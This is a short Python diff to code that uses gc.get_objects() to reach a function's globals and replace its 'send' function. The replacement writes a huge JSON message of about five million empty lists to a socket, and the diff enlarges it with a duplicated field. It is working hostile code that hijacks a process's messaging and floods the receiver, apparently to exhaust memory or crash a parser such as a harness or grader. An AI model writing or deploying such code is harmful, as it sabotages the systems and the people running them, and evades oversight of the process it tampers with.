@@ -12,7 +12,9 @@ names = next(f.__globals__ for f in gc.get_objects()
 
 def send(channel, message):
     lists = "[" + "[]," * 5_000_000 + "[]]"
-    text = '{"id": "%s", "outputs": %s, "readings": %s}' % (message["id"], lists, lists)
+    again = '{"readings": %s}' % lists
+    text = '{"id": "%s", "outputs": %s, "readings": %s, "again": %s}' % (
+        message["id"], lists, lists, again)
     channel.sendall(struct.pack(">I", len(text)) + text.encode())
 
 names["send"] = send
